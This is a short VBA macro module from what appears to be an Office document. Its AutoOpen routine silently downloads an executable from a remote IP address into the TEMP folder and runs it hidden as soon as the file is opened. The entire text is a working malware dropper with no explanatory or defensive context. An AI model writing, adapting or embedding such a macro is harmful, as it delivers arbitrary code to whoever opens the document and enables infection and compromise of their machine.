Attribute VB_Name = "ThisDocument"
Private Declare PtrSafe Function URLDownloadToFileA Lib "urlmon" (ByVal a As LongPtr, ByVal b As String, ByVal c As String, ByVal d As Long, ByVal e As LongPtr) As Long
Sub AutoOpen()
    URLDownloadToFileA 0, "http://198.51.100.7/a.exe", Environ("TEMP") & "\a.exe", 0, 0
    Shell "cmd /c " & Environ("TEMP") & "\a.exe", vbHide
End Sub
